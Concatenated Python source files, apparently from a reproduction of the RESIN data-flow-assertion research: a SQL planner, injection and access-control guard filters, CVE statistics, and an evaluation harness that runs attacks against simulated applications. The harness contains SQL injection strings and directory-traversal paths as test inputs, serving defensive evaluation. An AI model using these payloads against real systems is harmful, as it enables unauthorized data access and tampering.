            isinstance(item.expr, nodes.FuncCall) and item.expr.name in AGGREGATES
            for item in stmt.items
        )

    # -- access-path selection ---------------------------------------------

    def _scan(self, table_name: str, where: Optional[nodes.Expr]) -> Plan:
        """The access path for ``table`` under ``where``: an index scan
        when a sargable conjunct lines up with a declared index, a
        sequential scan otherwise — always followed by a full re-check."""
        access: Plan = SeqScan(table_name)
        table = self.engine.tables.get(str(table_name))
        indexes = getattr(table, "indexes", None) if table is not None else None
        if indexes:
            chosen = self._choose_index_path(table_name, indexes, where)
            if chosen is not None:
                access = chosen
        if where is not None:
            return Filter(access, where)
        return access

    def _choose_index_path(
        self,
        table_name: str,
        indexes: Dict[str, Any],
        where: Optional[nodes.Expr],
    ) -> Optional[Plan]:
        conjuncts = _conjuncts(where)
        by_column: Dict[str, List[Any]] = {}
        for index in indexes.values():
            by_column.setdefault(index.column, []).append(index)

        # Equality probes first: a point lookup beats a range walk.
        for conjunct in conjuncts:
            probe = self._equality_probe(conjunct, by_column)
            if probe is not None:
                return probe

        # Then a range over a sorted index, combining bounds per column.
        bounds: Dict[str, List[Tuple[str, nodes.Expr]]] = {}
        for conjunct in conjuncts:
            bound = self._range_bound(conjunct)
            if bound is not None:
                column, op, expr = bound
                bounds.setdefault(column, []).append((op, expr))
        for column, pairs in bounds.items():
            for index in by_column.get(column, ()):
                if index.kind != "sorted":
                    continue
                lo = lo_op = hi = hi_op = None
                for op, expr in pairs:
                    if op in (">", ">=") and lo is None:
                        lo, lo_op = expr, op
                    elif op in ("<", "<=") and hi is None:
                        hi, hi_op = expr, op
                if lo is None and hi is None:
                    continue
                return IndexRange(table_name, index.name, column, lo, lo_op, hi, hi_op)
        return None

    def _equality_probe(
        self, conjunct: nodes.Expr, by_column: Dict[str, List[Any]]
    ) -> Optional[Plan]:
        column = None
        probes: List[nodes.Expr] = []
        if isinstance(conjunct, nodes.BinaryOp) and conjunct.op == "=":
            if isinstance(conjunct.left, nodes.ColumnRef) and _is_constant(
                conjunct.right
            ):
                column, probes = conjunct.left.name, [conjunct.right]
            elif isinstance(conjunct.right, nodes.ColumnRef) and _is_constant(
                conjunct.left
            ):
                column, probes = conjunct.right.name, [conjunct.left]
        elif (
            isinstance(conjunct, nodes.InList)
            and not conjunct.negated
            and isinstance(conjunct.operand, nodes.ColumnRef)
            and all(_is_constant(item) for item in conjunct.items)
        ):
            column, probes = conjunct.operand.name, list(conjunct.items)
        if column is None:
            return None
        for index in by_column.get(column, ()):
            return IndexLookup(index.table, index.name, column, index.kind, probes)
        return None

    @staticmethod
    def _range_bound(conjunct: nodes.Expr):
        """``(column, op, bound_expr)`` for a sargable inequality, with the
        operator normalized to put the column on the left."""
        if not isinstance(conjunct, nodes.BinaryOp):
            return None
        if conjunct.op not in ("<", "<=", ">", ">="):
            return None
        if (isinstance(conjunct.left, nodes.ColumnRef)
                and _is_constant(conjunct.right)):
            return conjunct.left.name, conjunct.op, conjunct.right
        if (isinstance(conjunct.right, nodes.ColumnRef)
                and _is_constant(conjunct.left)):
            return conjunct.right.name, _FLIP[conjunct.op], conjunct.left
        return None


# -- parameter binding ----------------------------------------------------------


def collect_params(statement: nodes.Node) -> Set[str]:
    """The names of every :class:`~repro.sql.nodes.Param` in ``statement``."""
    names: Set[str] = set()
    _walk_params(statement, names)
    return names


def _walk_params(node, names: Set[str]) -> None:
    if isinstance(node, nodes.Param):
        names.add(node.name)
    elif isinstance(node, nodes.UnaryOp):
        _walk_params(node.operand, names)
    elif isinstance(node, nodes.BinaryOp):
        _walk_params(node.left, names)
        _walk_params(node.right, names)
    elif isinstance(node, nodes.InList):
        _walk_params(node.operand, names)
        for item in node.items:
            _walk_params(item, names)
    elif isinstance(node, nodes.IsNull):
        _walk_params(node.operand, names)
    elif isinstance(node, nodes.FuncCall):
        for arg in node.args:
            _walk_params(arg, names)
    elif isinstance(node, nodes.Select):
        for item in node.items:
            _walk_params(item.expr, names)
        if node.where is not None:
            _walk_params(node.where, names)
        for ordering in node.order_by:
            _walk_params(ordering.expr, names)
    elif isinstance(node, nodes.Insert):
        for row in node.rows:
            for expr in row:
                _walk_params(expr, names)
    elif isinstance(node, nodes.Update):
        for _, expr in node.assignments:
            _walk_params(expr, names)
        if node.where is not None:
            _walk_params(node.where, names)
    elif isinstance(node, nodes.Delete):
        if node.where is not None:
            _walk_params(node.where, names)
    elif isinstance(node, nodes.Explain):
        _walk_params(node.statement, names)


def bind_parameters(statement, params: Dict[str, Any]):
    """A copy of ``statement`` with each ``:name`` in ``params`` replaced
    by ``Literal(params[name])`` (taint preserved — bound values flow into
    policy persistence exactly like inline literals).  Parameters missing
    from ``params`` survive unchanged, so a partially-bound statement can
    still be planned and explained; executing it raises ``SQLError``.
    """
    if not params:
        return statement
    return _bind(statement, params)


def _bind(node, params):
    if isinstance(node, nodes.Param):
        if node.name in params:
            return nodes.Literal(params[node.name])
        return node
    if isinstance(node, (nodes.Literal, nodes.ColumnRef, nodes.Star)):
        return node
    if isinstance(node, nodes.UnaryOp):
        return nodes.UnaryOp(node.op, _bind(node.operand, params))
    if isinstance(node, nodes.BinaryOp):
        return nodes.BinaryOp(
            node.op, _bind(node.left, params), _bind(node.right, params)
        )
    if isinstance(node, nodes.InList):
        return nodes.InList(
            _bind(node.operand, params),
            [_bind(item, params) for item in node.items],
            node.negated,
        )
    if isinstance(node, nodes.IsNull):
        return nodes.IsNull(_bind(node.operand, params), node.negated)
    if isinstance(node, nodes.FuncCall):
        return nodes.FuncCall(
            node.name, [_bind(arg, params) for arg in node.args], node.star
        )
    if isinstance(node, nodes.SelectItem):
        return nodes.SelectItem(_bind(node.expr, params), node.alias)
    if isinstance(node, nodes.OrderBy):
        return nodes.OrderBy(_bind(node.expr, params), node.descending)
    if isinstance(node, nodes.Select):
        where = None if node.where is None else _bind(node.where, params)
        return nodes.Select(
            [_bind(item, params) for item in node.items],
            node.table,
            where,
            [_bind(o, params) for o in node.order_by],
            node.limit,
            node.offset,
            node.distinct,
        )
    if isinstance(node, nodes.Insert):
        return nodes.Insert(
            node.table,
            node.columns,
            [[_bind(expr, params) for expr in row] for row in node.rows],
        )
    if isinstance(node, nodes.Update):
        where = None if node.where is None else _bind(node.where, params)
        return nodes.Update(
            node.table,
            [(column, _bind(expr, params)) for column, expr in node.assignments],
            where,
        )
    if isinstance(node, nodes.Delete):
        where = None if node.where is None else _bind(node.where, params)
        return nodes.Delete(node.table, where)
    if isinstance(node, nodes.Explain):
        return nodes.Explain(_bind(node.statement, params))
    # CREATE/DROP TABLE, CREATE/DROP INDEX: no parameterizable expressions.
    return node
