"""Security assertion kit and vulnerability statistics."""

from .assertions import (AutoSanitizingSQLFilter, HTMLGuardFilter,
                         HTMLStructureGuardFilter, JSONGuardFilter,
                         ResponseSplittingFilter, SQLGuardFilter,
                         UntrustedInputFilter, WriteAccessFilter,
                         approve_code_file,
                         install_script_injection_assertion,
                         mark_request_untrusted, mark_untrusted)
from . import vulndb

__all__ = [
    "SQLGuardFilter", "AutoSanitizingSQLFilter",
    "HTMLGuardFilter", "HTMLStructureGuardFilter", "JSONGuardFilter",
    "ResponseSplittingFilter", "UntrustedInputFilter", "WriteAccessFilter",
    "mark_untrusted", "mark_request_untrusted",
    "approve_code_file", "install_script_injection_assertion",
    "vulndb",
]
