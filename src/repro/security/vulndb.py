"""Vulnerability statistics (Tables 1 and 2 of the paper).

These are the published counts the paper uses to motivate data flow
assertions: the 2008 CVE category breakdown (Table 1) and the 2007 Web
Application Security Consortium survey (Table 2).  The benchmark harness
recomputes the percentages from the raw counts and reprints the tables.
"""

from __future__ import annotations

from typing import Dict, List, Tuple

#: Table 1: top CVE security vulnerabilities of 2008 (category -> count).
CVE_2008_COUNTS: Dict[str, int] = {
    "SQL injection": 1176,
    "Cross-site scripting": 805,
    "Denial of service": 661,
    "Buffer overflow": 550,
    "Directory traversal": 379,
    "Server-side script injection": 287,
    "Missing access checks": 263,
    "Other vulnerabilities": 1647,
}

#: Total reported in the paper (equals the sum of the categories above).
CVE_2008_TOTAL = 5768

#: Table 2: percentage of surveyed Web sites affected per vulnerability
#: class (WASC 2007 statistics).
WEB_SURVEY_2007_PERCENT: Dict[str, float] = {
    "Cross-site scripting": 31.5,
    "Information leakage": 23.3,
    "Predictable resource location": 10.2,
    "SQL injection": 7.9,
    "Insufficient access control": 1.5,
    "HTTP response splitting": 0.8,
}

#: Vulnerability classes RESIN's assertion patterns cover (used by the
#: harness to report what fraction of Table 1 is addressable).
RESIN_ADDRESSABLE_CLASSES = (
    "SQL injection",
    "Cross-site scripting",
    "Directory traversal",
    "Server-side script injection",
    "Missing access checks",
)


def cve_2008_table() -> List[Tuple[str, int, float]]:
    """Rows of Table 1: (category, count, percentage of total)."""
    total = sum(CVE_2008_COUNTS.values())
    return [(category, count, round(100.0 * count / total, 1))
            for category, count in CVE_2008_COUNTS.items()]


def cve_2008_total() -> int:
    return sum(CVE_2008_COUNTS.values())


def addressable_fraction() -> float:
    """Fraction of the 2008 CVEs that fall in classes RESIN assertions can
    address (the paper's motivation: these classes alone exceed half of the
    non-'other' vulnerabilities)."""
    total = sum(CVE_2008_COUNTS.values())
    covered = sum(CVE_2008_COUNTS[c] for c in RESIN_ADDRESSABLE_CLASSES)
    return covered / total


def web_survey_table() -> List[Tuple[str, float]]:
    """Rows of Table 2: (vulnerability, percent of surveyed sites)."""
    return list(WEB_SURVEY_2007_PERCENT.items())
