"""Reusable data flow assertion building blocks.

Each class or helper here is one of the assertion patterns the paper
implements for its evaluation applications (Section 5): marking untrusted
input, checking SQL queries and HTML output for unsanitized untrusted data,
rejecting HTTP response splitting, guarding writes with access-control
filters, and requiring code approval before interpretation.

They are deliberately small — the point of the paper is that an assertion is
tens of lines — and they reuse the application's own code and data structures
(ACLs, user lists) wherever a check is needed.
"""

from __future__ import annotations

from typing import Any, Callable, Dict, Mapping, Optional

from ..core.exceptions import AccessDenied, InjectionViolation, SerializationError
from ..core.filter import Filter
from ..core.request_context import request_scoped_context
from ..policies.acl import ACL
from ..policies.code_approval import CodeApproval
from ..policies.untrusted import HTMLSanitized, SQLSanitized, UntrustedData
from ..sql.tokenizer import STRING, tokenize
from ..tracking.tainted_str import TaintedStr
from ..web.request import Request

__all__ = [
    "mark_untrusted", "mark_request_untrusted", "UntrustedInputFilter",
    "SQLGuardFilter", "AutoSanitizingSQLFilter", "HTMLGuardFilter",
    "HTMLStructureGuardFilter", "JSONGuardFilter",
    "ResponseSplittingFilter", "WriteAccessFilter",
    "install_script_injection_assertion", "approve_code_file",
]


def mark_untrusted(value, source: str = "input"):
    """Attach an ``UntrustedData`` policy to ``value``."""
    from ..core.api import policy_add
    return policy_add(value, UntrustedData(source))


def mark_request_untrusted(request: Request, source: str = "http-param") -> None:
    """Annotate every request parameter and uploaded file as untrusted.

    This is step 2 of the SQL-injection/XSS assertions of Section 5.3;
    applications call it from a ``before_request`` hook.
    """
    request.mark_params(UntrustedData(source))


class UntrustedInputFilter(Filter):
    """A channel filter that marks everything read from the channel as
    untrusted — used on sockets that talk to external services (the whois
    connection in the phpBB cross-site-scripting bug of Section 6.3)."""

    def __init__(self, source: str = "socket", context: Optional[dict] = None):
        super().__init__(context)
        self.source = source

    def filter_read(self, data: Any, offset: int = 0) -> Any:
        return mark_untrusted(data, self.source)


class SQLGuardFilter(Filter):
    """SQL-injection assertion (Data Flow Assertion 1).

    Stacked on a :class:`repro.channels.sqlchan.Database`.  Two strategies
    from Section 5.3 are supported:

    * ``"sanitizer"`` — any character of the query that carries
      ``UntrustedData`` must also carry ``SQLSanitized`` (i.e. user input
      must have passed through the quoting function);
    * ``"structure"`` — characters belonging to the query's *structure*
      (keywords, identifiers, operators, punctuation — everything except the
      contents of string literals) must not carry ``UntrustedData`` at all.
    """

    def __init__(self, strategy: str = "structure",
                 context: Optional[dict] = None):
        super().__init__(context)
        if strategy not in ("structure", "sanitizer"):
            raise ValueError(f"unknown strategy {strategy!r}")
        self.strategy = strategy

    def filter_func(self, func: Callable, args: tuple, kwargs: dict) -> Any:
        if args:
            self._check_query(args[0])
        return func(*args, **kwargs)

    def _check_query(self, sql) -> None:
        if not isinstance(sql, TaintedStr):
            return
        if self.strategy == "sanitizer":
            self._check_sanitizer(sql)
        else:
            self._check_structure(sql)

    def _check_sanitizer(self, sql: TaintedStr) -> None:
        for rng in sql.rangemap.ranges:
            if (rng.policies.has_type(UntrustedData)
                    and not rng.policies.has_type(SQLSanitized)):
                raise InjectionViolation(
                    "unsanitized user input in SQL query near "
                    f"{str(sql)[rng.start:rng.stop][:40]!r}",
                    context=request_scoped_context(self.context))

    def _check_structure(self, sql: TaintedStr) -> None:
        from ..sql.tokenizer import NUMBER
        for token in tokenize(sql):
            if token.type in (STRING, NUMBER):
                # Literals are data, not structure: untrusted data is allowed
                # to appear as a string literal's contents or a bare number —
                # it just may not change keywords, identifiers or operators.
                continue
            text = token.text
            if isinstance(text, TaintedStr) and text.has_policy_type(UntrustedData):
                raise InjectionViolation(
                    "user input reached SQL query structure near "
                    f"{str(text)[:40]!r}",
                    context=request_scoped_context(self.context))


class HTMLGuardFilter(Filter):
    """Cross-site-scripting assertion.

    Stacked on the HTTP output channel.  Any character of the response that
    carries ``UntrustedData`` but not ``HTMLSanitized`` trips the assertion —
    regardless of which path the untrusted data took into the page (HTML
    form, whois response, database round-trip, …).
    """

    def filter_write(self, data: Any, offset: int = 0) -> Any:
        if isinstance(data, TaintedStr):
            for rng in data.rangemap.ranges:
                if (rng.policies.has_type(UntrustedData)
                        and not rng.policies.has_type(HTMLSanitized)):
                    raise InjectionViolation(
                        "unsanitized user input in HTML output near "
                        f"{str(data)[rng.start:rng.stop][:40]!r}",
                        context=self.context)
        return data


class AutoSanitizingSQLFilter(Filter):
    """The variation of the second SQL strategy described in Section 5.3:
    instead of rejecting queries whose structure carries ``UntrustedData``,
    the filter re-quotes the untrusted characters in transit so they cannot
    change the command structure of the query.

    Contiguous untrusted characters that appear *outside* string literals are
    rewritten into a quoted SQL literal; untrusted characters inside string
    literals are left alone (the quoting already confines them).  The
    rewritten query is what actually reaches the database.
    """

    def filter_func(self, func: Callable, args: tuple, kwargs: dict) -> Any:
        if args and isinstance(args[0], TaintedStr):
            args = (self._rewrite(args[0]),) + tuple(args[1:])
        return func(*args, **kwargs)

    def _rewrite(self, sql: TaintedStr) -> TaintedStr:
        from ..web.sanitize import sql_quote
        rewritten = TaintedStr("")
        text = str(sql)
        inside_literal = False      # quote parity of the *trusted* template
        index = 0
        while index < len(sql):
            if sql.policies_at(index).has_type(UntrustedData):
                run_start = index
                while (index < len(sql)
                       and sql.policies_at(index).has_type(UntrustedData)):
                    index += 1
                run = sql_quote(sql[run_start:index])
                if inside_literal:
                    # The template already supplies the enclosing quotes;
                    # escaping the run keeps it confined to that literal.
                    rewritten = rewritten + run
                else:
                    # Bare untrusted value: confine it in its own literal.
                    rewritten = rewritten + "'" + run + "'"
                continue
            if text[index] == "'":
                inside_literal = not inside_literal
            rewritten = rewritten + sql[index:index + 1]
            index += 1
        return rewritten


class HTMLStructureGuardFilter(Filter):
    """The structure-checking flavour of the XSS assertion (Section 5.3,
    second strategy): untrusted characters may appear in HTML output only as
    text content — never as markup structure (``<``, ``>``, quotes inside a
    tag, or anywhere inside a ``<script>`` element)."""

    _SCRIPT_OPEN = "<script"
    _SCRIPT_CLOSE = "</script>"

    def filter_write(self, data: Any, offset: int = 0) -> Any:
        if not isinstance(data, TaintedStr):
            return data
        text = str(data)
        lowered = text.lower()
        in_script = False
        in_tag = False
        for index, char in enumerate(text):
            untrusted = data.policies_at(index).has_type(UntrustedData)
            if lowered.startswith(self._SCRIPT_OPEN, index):
                in_script = True
            if lowered.startswith(self._SCRIPT_CLOSE, index):
                in_script = False
            if char == "<":
                in_tag = True
            if untrusted and (char in "<>" or in_tag or in_script):
                raise InjectionViolation(
                    "untrusted data in HTML structure near "
                    f"{text[max(0, index - 10):index + 10]!r}",
                    context=self.context)
            if char == ">":
                in_tag = False
        return data


class JSONGuardFilter(Filter):
    """JSON output guard (Section 5.4): untrusted characters in a JSON
    response must have passed through the JSON encoder, otherwise they could
    change the structure of the client-side data (or smuggle script)."""

    def filter_write(self, data: Any, offset: int = 0) -> Any:
        from ..policies.untrusted import JSONSanitized
        if isinstance(data, TaintedStr):
            for rng in data.rangemap.ranges:
                if (rng.policies.has_type(UntrustedData)
                        and not rng.policies.has_type(JSONSanitized)):
                    raise InjectionViolation(
                        "unsanitized user input in JSON output near "
                        f"{str(data)[rng.start:rng.stop][:40]!r}",
                        context=self.context)
        return data


class ResponseSplittingFilter(Filter):
    """Reject CR-LF sequences that came from user input in HTTP output
    (the HTTP response splitting defence of Sections 3.2 and 5.4)."""

    def filter_write(self, data: Any, offset: int = 0) -> Any:
        if isinstance(data, TaintedStr):
            text = str(data)
            for index in range(len(text)):
                if text[index] not in "\r\n":
                    continue
                if data.policies_at(index).has_type(UntrustedData):
                    raise InjectionViolation(
                        "user-supplied CR/LF in HTTP output (response "
                        "splitting attempt)", context=self.context)
        return data


class WriteAccessFilter(Filter):
    """Write access control for files and directories (Section 3.2.3,
    Data Flow Assertion 2).

    Attached as a *persistent filter object* to a file or directory; the
    filesystem layer invokes it whenever data flows into the file or the
    directory is modified.  The check either consults an :class:`ACL` (the
    MoinMoin write-ACL assertion) or an arbitrary callable
    ``allowed(user, operation, path)`` (the file-manager home-directory
    assertion).

    ACL-based instances are durable: :meth:`serializable_fields` exposes the
    ACL and right the way a policy exposes its data fields, so the storage
    engine (:mod:`repro.storage`) can persist the filter and restore it on
    recovery.  Callable-based instances carry *code*, which persistent
    records never store — serializing one raises
    :class:`~repro.core.exceptions.SerializationError`, and the durability
    layer skips it (re-attach such filters at application start-up).
    """

    #: Restore path (``__new__`` + stored fields, no ``__init__``) falls back
    #: to these class attributes for fields that were not persisted.
    acl: Optional[ACL] = None
    allowed: Optional[Callable[[Optional[str], str, str], bool]] = None
    right: str = "write"

    def __init__(self, acl: Optional[ACL] = None,
                 allowed: Optional[Callable[[Optional[str], str, str], bool]] = None,
                 right: str = "write",
                 context: Optional[dict] = None):
        super().__init__(context)
        if acl is None and allowed is None:
            raise ValueError("WriteAccessFilter needs an ACL or a callable")
        self.acl = acl
        self.allowed = allowed
        self.right = right

    def serializable_fields(self) -> Dict[str, Any]:
        if self.allowed is not None:
            raise SerializationError(
                "WriteAccessFilter with a callable predicate carries code "
                "and cannot be persisted; use an ACL for durable filters")
        return {"acl": self.acl.to_dict(), "right": self.right}

    def __setattr__(self, key, value):
        # De-serialization restores ``acl`` as a plain dict; rebuild the ACL.
        if key == "acl" and isinstance(value, Mapping):
            value = ACL.from_dict(value)
        super().__setattr__(key, value)

    def _permitted(self, operation: str) -> bool:
        user = self.context.get("user")
        path = self.context.get("path", "")
        if self.allowed is not None:
            return bool(self.allowed(user, operation, path))
        return self.acl.may(user, self.right)

    def filter_write(self, data: Any, offset: int = 0) -> Any:
        if not self._permitted("write"):
            raise AccessDenied(
                f"user {self.context.get('user')!r} may not write "
                f"{self.context.get('path')!r}", context=self.context)
        return data

    def filter_read(self, data: Any, offset: int = 0) -> Any:
        return data

    def check_mutation(self, operation: str, path: str, context) -> None:
        if not self._permitted(operation):
            raise AccessDenied(
                f"user {context.get('user')!r} may not {operation} {path!r}",
                context=context)


def approve_code_file(fs, path: str, approved_by: str = "installer") -> None:
    """Mark a stored file as approved code (Figure 6's
    ``make_file_executable``)."""
    fs.add_file_policy(path, CodeApproval(approved_by))


def install_script_injection_assertion(env=None, registry=None) -> None:
    """Replace the interpreter's default input filter so that only approved
    code can be executed (step 3 of the Section 5.2 assertion).

    Pass the application's environment (or its registry) to scope the
    replacement to that environment — the normal deployment shape, one
    assertion per tenant.  With neither argument the replacement is
    *process-wide* (the paper's global-configuration-file shape, now
    deprecated); call ``default_registry().reset("code")`` to undo that
    variant, or ``env.registry.reset("code")`` for the scoped one.
    """
    from ..core.registry import resolve_registry
    from ..interp.filters import InterpreterFilter
    resolve_registry(registry, env).set_default_filter_factory(
        "code", InterpreterFilter)
