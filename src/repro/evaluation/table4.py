"""Experiment E3: the security evaluation of Table 4.

For every application/assertion row of Table 4 this module defines the
attack scenarios (previously-known and newly-discovered vulnerabilities) and
runs them twice — once against the unprotected application and once with the
RESIN assertion installed.  A row is reproduced when every attack succeeds
without the assertion and is prevented with it, while the application's
legitimate behaviour keeps working in both configurations.

The scenario functions are shared by the integration tests
(``tests/integration``) and the Table 4 benchmark
(``benchmarks/bench_table4_security.py``).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List

from ..core.exceptions import PolicyViolation
from ..environment import Environment
from ..security.assertions import mark_untrusted


@dataclass
class AttackResult:
    """Outcome of one attack attempt."""

    name: str
    succeeded: bool           # the attack achieved its goal (data leaked, …)
    blocked_by_policy: bool   # a PolicyViolation stopped it


@dataclass
class RowResult:
    """Outcome of one Table 4 row in one configuration."""

    application: str
    assertion: str
    assertion_loc: int
    known_vulnerabilities: int
    discovered_vulnerabilities: int
    attacks: List[AttackResult] = field(default_factory=list)
    legitimate_ok: bool = True

    @property
    def prevented(self) -> int:
        return sum(1 for a in self.attacks if not a.succeeded)

    @property
    def exploited(self) -> int:
        return sum(1 for a in self.attacks if a.succeeded)


@dataclass
class Scenario:
    """One row of Table 4."""

    application: str
    language: str
    app_loc: int              # size of the real application (from the paper)
    assertion: str
    assertion_loc: int        # assertion size reported by the paper
    known: int                # previously-known vulnerabilities
    discovered: int           # newly-discovered vulnerabilities
    vulnerability_type: str
    runner: Callable[[bool], RowResult] = None


def _attack(name: str, goal: Callable[[], bool]) -> AttackResult:
    """Run one attack; ``goal`` returns True if the attack achieved its aim
    and raises PolicyViolation if a RESIN assertion stopped it."""
    try:
        return AttackResult(name, bool(goal()), False)
    except PolicyViolation:
        return AttackResult(name, False, True)


# --------------------------------------------------------------------------
# MIT EECS graduate admissions — SQL injection
# --------------------------------------------------------------------------

def run_admissions(use_resin: bool) -> RowResult:
    from ..apps.admissions import AdmissionsSystem
    app = AdmissionsSystem(Environment(), use_resin=use_resin)
    app.add_applicant(1, "Alice", "systems", 780, notes="strong accept")
    app.add_applicant(2, "Bob", "theory", 650, notes="confidential: weak")

    attacks = [
        _attack("area filter injection",
                lambda: len(app.filter_by_area("x' OR '1'='1")) >= 2),
        _attack("id lookup injection",
                lambda: len(app.lookup_applicant("0 OR 1=1")) >= 2),
        _attack("decision update injection",
                lambda: _update_decision_attack(app)),
    ]
    legitimate = (len(app.search_by_name("Alice")) == 1
                  and len(app.filter_by_area("systems")) == 1)
    return RowResult("MIT EECS grad admissions", "SQL injection", 9, 0, 3,
                     attacks, legitimate)


def _update_decision_attack(app) -> bool:
    app.update_decision(1, "admit' WHERE applicant_id = 2 --")
    return any(int(row["applicant_id"]) == 2 and str(row["decision"]) == "admit"
               for row in app.decisions())


# --------------------------------------------------------------------------
# MoinMoin — read and write access control
# --------------------------------------------------------------------------

def _moin_fixture(use_resin: bool, use_write: bool):
    from ..apps.moinmoin import MoinMoin
    wiki = MoinMoin(Environment(), use_resin=use_resin,
                    use_write_assertion=use_write)
    wiki.update_body("SecretPlans",
                     "#acl alice:read,write\nthe secret plans", "alice")
    wiki.update_body("PublicPage",
                     "#acl All:read Known:read,write\nwelcome", "alice")
    return wiki


def run_moinmoin_read(use_resin: bool) -> RowResult:
    wiki = _moin_fixture(use_resin, use_write=False)
    wiki.update_body("MalloryPage", "{{include:SecretPlans}}", "mallory")

    def include_attack() -> bool:
        return "secret plans" in wiki.view_page("MalloryPage",
                                                "mallory").body()

    def raw_attack() -> bool:
        return "secret plans" in wiki.raw_action("SecretPlans",
                                                 "mallory").body()

    attacks = [
        _attack("rst include directive bypasses ACL (CVE-2008-6548)",
                include_attack),
        _attack("raw action misses ACL check", raw_attack),
    ]
    legitimate = ("secret plans" in wiki.view_page("SecretPlans",
                                                   "alice").body()
                  and "welcome" in wiki.view_page("PublicPage",
                                                  "mallory").body())
    return RowResult("MoinMoin", "Missing read access control checks", 8,
                     2, 0, attacks, legitimate)


def run_moinmoin_write(use_resin: bool) -> RowResult:
    wiki = _moin_fixture(use_resin, use_write=use_resin)

    def deface_attack() -> bool:
        wiki.overwrite_revision("SecretPlans", 1, "defaced", "mallory")
        return "defaced" in str(
            wiki.env.fs.read_text("/wiki/pages/SecretPlans/00000001"))

    attacks = [_attack("direct revision overwrite bypasses write ACL",
                       deface_attack)]
    revision = wiki.update_body("SecretPlans",
                                "#acl alice:read,write\nupdated plans",
                                "alice")
    legitimate = revision == 2
    return RowResult("MoinMoin", "Missing write access control checks", 15,
                     0, 0, attacks, legitimate)


# --------------------------------------------------------------------------
# File Thingie / PHP Navigator — directory traversal
# --------------------------------------------------------------------------

def _run_filemanager(cls, name: str, payload: str, assertion_loc: int,
                     use_resin: bool) -> RowResult:
    fm = cls(Environment(), use_resin=use_resin)
    fm.create_account("alice")
    fm.create_account("mallory")
    fm.save_file("alice", "notes.txt", "alice's notes")

    def traversal() -> bool:
        fm.save_file("mallory", payload, "owned by mallory")
        return "owned by mallory" in str(
            fm.env.fs.read_text(fm.home_dir("alice") + "/owned.txt"))

    attacks = [_attack("directory traversal on the write path", traversal)]
    legitimate = (fm.save_file("mallory", "mine.txt", "ok")
                  .endswith("/mallory/mine.txt")
                  and "alice's notes" in str(fm.read_file("alice",
                                                          "notes.txt")))
    return RowResult(name, "Directory traversal, file access control",
                     assertion_loc, 0, 1, attacks, legitimate)


def run_file_thingie(use_resin: bool) -> RowResult:
    from ..apps.filemanager import FileThingie
    return _run_filemanager(FileThingie, "File Thingie file manager",
                            "docs/../../alice/owned.txt", 19, use_resin)


def run_php_navigator(use_resin: bool) -> RowResult:
    from ..apps.filemanager import PHPNavigator
    return _run_filemanager(PHPNavigator, "PHP Navigator",
                            "....//alice/owned.txt", 17, use_resin)


# --------------------------------------------------------------------------
# HotCRP — password disclosure, paper access, author anonymity
# --------------------------------------------------------------------------

def _hotcrp_fixture(use_resin: bool):
    from ..apps.hotcrp import HotCRP
    site = HotCRP(Environment(), use_resin=use_resin)
    site.register_user("victim@example.org", "victim-password")
    site.register_user("adversary@example.org", "adversary-password")
    site.register_user("pc@example.org", "pc-password", is_pc=True)
    site.register_user("chair@example.org", "chair-password", is_pc=True,
                       priv_chair=True)
    site.submit_paper(1, "Data Flow Assertions", "We describe RESIN. " * 20,
                      ["alice@authors.org", "bob@authors.org"],
                      anonymous=True)
    site.add_review(1, "pc@example.org", "Strong accept; novel mechanism.",
                    released=False)
    return site


def run_hotcrp_password(use_resin: bool) -> RowResult:
    site = _hotcrp_fixture(use_resin)
    site.email_preview_mode = True

    def preview_attack() -> bool:
        response = site.env.http_channel(user="adversary@example.org")
        site.send_password_reminder("victim@example.org", response)
        return "victim-password" in response.body()

    attacks = [_attack("password reminder + email preview discloses password",
                       preview_attack)]

    site.email_preview_mode = False
    response = site.env.http_channel(user="victim@example.org")
    site.send_password_reminder("victim@example.org", response)
    legitimate = any(m.to == "victim@example.org"
                     and "victim-password" in m.body
                     for m in site.env.mail.outbox)
    return RowResult("HotCRP", "Password disclosure", 23, 1, 0, attacks,
                     legitimate)


def run_hotcrp_paper_access(use_resin: bool) -> RowResult:
    site = _hotcrp_fixture(use_resin)

    def outsider_reads_reviews() -> bool:
        response = site.review_page(1, "adversary@example.org")
        return "Strong accept" in response.body()

    attacks = [_attack("non-PC user reads unreleased reviews",
                       outsider_reads_reviews)]
    legitimate = "Strong accept" in site.review_page(
        1, "pc@example.org").body()
    return RowResult("HotCRP", "Missing access checks for papers", 30, 0, 0,
                     attacks, legitimate)


def run_hotcrp_author_list(use_resin: bool) -> RowResult:
    site = _hotcrp_fixture(use_resin)

    def pc_sees_anonymous_authors() -> bool:
        # The display path checks anonymity correctly; the *search export*
        # path (modelled by writing the raw author field) is where an
        # application without the assertion can slip.
        paper = site._paper(1)
        response = site._response_for("pc@example.org")
        response.write(paper["authors"])
        return "alice@authors.org" in response.body()

    attacks = [_attack("author list of anonymous paper reaches PC member",
                       pc_sees_anonymous_authors)]
    page = site.paper_page(1, "pc@example.org")
    legitimate = ("Data Flow Assertions" in page.body()
                  and "alice@authors.org" not in page.body())
    return RowResult("HotCRP", "Missing access checks for author list", 32,
                     0, 0, attacks, legitimate)


# --------------------------------------------------------------------------
# myPHPscripts login library — password disclosure
# --------------------------------------------------------------------------

def run_loginlib(use_resin: bool) -> RowResult:
    from ..apps.loginlib import LoginLibrary
    lib = LoginLibrary(Environment(), use_resin=use_resin)
    lib.register("victim", "victim-secret")

    def fetch_password_file() -> bool:
        response = lib.http_get("/site/loginlib/users.txt")
        return "victim-secret" in response.body()

    attacks = [_attack("HTTP request for the plain-text password file "
                       "(CVE-2008-5855)", fetch_password_file)]
    legitimate = lib.authenticate("victim", "victim-secret")
    return RowResult("myPHPscripts login library", "Password disclosure", 6,
                     1, 0, attacks, legitimate)


# --------------------------------------------------------------------------
# phpBB — read access control and cross-site scripting
# --------------------------------------------------------------------------

def _phpbb_fixture(use_read: bool, use_xss: bool):
    from ..apps.phpbb import PhpBB
    board = PhpBB(Environment(), use_read_assertion=use_read,
                  use_xss_assertion=use_xss)
    board.create_forum(1, "announcements")
    board.create_forum(2, "staff", allowed_users=["admin"])
    board.post_message(10, 2, "admin", "salaries",
                       "the staff salaries are secret")
    board.post_message(11, 1, "admin", "welcome", "hello world")
    return board


def run_phpbb_access(use_resin: bool) -> RowResult:
    board = _phpbb_fixture(use_read=use_resin, use_xss=False)

    def printable() -> bool:
        return "secret" in board.printable_view(10, "mallory").body()

    def reply_quote() -> bool:
        return "secret" in board.reply_form(10, "mallory").body()

    def rss() -> bool:
        return "secret" in board.rss_feed("mallory").body()

    def search() -> bool:
